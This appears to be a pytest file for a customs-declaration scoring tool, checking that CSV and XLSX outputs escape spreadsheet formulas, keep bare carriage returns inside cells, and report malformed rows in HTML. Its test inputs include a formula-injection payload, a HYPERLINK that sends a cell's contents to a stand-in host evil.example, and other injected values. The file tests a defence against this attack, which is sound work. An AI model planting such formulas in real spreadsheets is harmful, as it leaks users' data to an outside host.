"""`declarations score` outputs: no live formula in CSV or XLSX, a bare CR stays in its cell,
and the HTML report lists a malformed row instead of crashing (issue 13)."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from circumspect.risk.report import write_report
from circumspect.risk.rules import load_rules
from circumspect.risk.score import score_declarations
from tests.risk.helpers import frame, row

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def _input(tmp_path: Path) -> Path:
    rows = [
        row(declaration_id="D1", consignee_name=HOSTILE),
        row(declaration_id="D2", goods_description="@SUM(1+1)\rcmd", exporter_name="-2+3"),
        row(declaration_id="D3"),
    ]
    path = tmp_path / "in.csv"
    frame(rows).to_csv(path, index=False, lineterminator="\r\n")  # quotes the bare CR
    return path


def test_csv_output_has_no_formula_and_keeps_rows(tmp_path: Path) -> None:
    out, err = tmp_path / "scored.csv", tmp_path / "errors.csv"
    score_declarations(_input(tmp_path), out, err)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header, data = rows[0], rows[1:]
    assert len(data) == 3  # the CR did not split a row
    for values in data:
        assert len(values) == len(header)
        assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
    cells = {c for values in data for c in values}
    assert "'" + HOSTILE in cells


def test_xlsx_output_has_no_formula_cell(tmp_path: Path) -> None:
    out, err = tmp_path / "scored.xlsx", tmp_path / "errors.xlsx"
    score_declarations(_input(tmp_path), out, err)
    sheet = load_workbook(out).active
    assert sheet is not None
    for line in sheet.iter_rows():
        for c in line:
            assert c.data_type != "f", f"{c.coordinate} is a formula: {c.value!r}"
            if isinstance(c.value, str):
                assert not c.value.startswith(("=", "+", "-", "@"))
    values = [c.value for line in sheet.iter_rows() for c in line]
    assert "'" + HOSTILE in values


def test_html_report_lists_a_malformed_row(tmp_path: Path) -> None:
    out, err = tmp_path / "scored.csv", tmp_path / "errors.csv"
    score_declarations(_input(tmp_path), out, err)
    text = out.read_bytes().decode("utf-8")
    # damage the file as the issue did: a bare CR outside quotes and a broken score
    lines = text.split("\r\n")
    lines[3] = lines[3].replace(",", ",\r", 1)
    out.write_bytes("\r\n".join(lines).encode("utf-8"))
    html = tmp_path / "report.html"
    write_report(out, err, load_rules(), html)
    page = html.read_text(encoding="utf-8")
    assert "Rows the report could not read" in page
    assert "fields where the header has" in page
    assert "D1" in page or "D3" in page or "clear" in page  # the rest is still reported
